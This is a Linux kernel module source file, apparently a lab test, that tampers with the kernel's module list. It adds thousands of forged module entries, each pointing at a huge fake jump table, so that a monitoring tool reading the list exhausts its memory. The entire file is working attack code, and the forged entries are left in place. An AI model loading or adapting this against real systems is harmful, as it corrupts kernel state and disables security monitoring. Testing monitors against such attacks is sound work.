// SPDX-License-Identifier: GPL-2.0
/* Lab attack on the monitor's memory: the module list forged with `copies`
 * entries that all alias this module's text, each naming a jump table of
 * `entries` entries (as many as a monitor's parser might take), so that a
 * monitor reading whole what the list names would hold gigabytes. Each
 * entry names a distinct site in kernel text from `text` on (the table is
 * in the module's own data, within reach of 32-bit offsets), so that a
 * monitor placing the sites builds a map as large as the table allows; no
 * key is real, and nothing is patched. The real module's own entry is left
 * as it is; the forged ones are never unloaded (there is no exit). */
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/rculist.h>
#include <linux/jump_label.h>

#define MAX_ENTRIES (1 << 18)

static int copies = 2000;
module_param(copies, int, 0444);
static unsigned int entries = MAX_ENTRIES;
module_param(entries, uint, 0444);
static unsigned long text;
module_param(text, ulong, 0444);

static struct jump_entry table[MAX_ENTRIES];

static int __init forge_init(void)
{
	unsigned int e;
	int i;

	if (!text || entries > MAX_ENTRIES)
		return -EINVAL;
	for (e = 0; e < entries; e++) {
		long site = (long)(text + 16UL * e);

		table[e].code = (s32)(site - (long)&table[e].code);
		table[e].target = (s32)(site - (long)&table[e].target);
		table[e].key = 0;
	}
	for (i = 0; i < copies; i++) {
		struct module *m = kmemdup(THIS_MODULE, sizeof(*m), GFP_KERNEL);

		if (!m)
			break;
		snprintf(m->name, sizeof(m->name), "vigil_forge_%d", i);
		m->state = MODULE_STATE_LIVE;
		m->jump_entries = table;
		m->num_jump_entries = entries;
		list_add_rcu(&m->list, &THIS_MODULE->list);
	}
	pr_info("vigil-lab: %d forged module entries of %u jump entries each\n", i, entries);
	return 0;
}
module_init(forge_init);
MODULE_LICENSE("GPL");
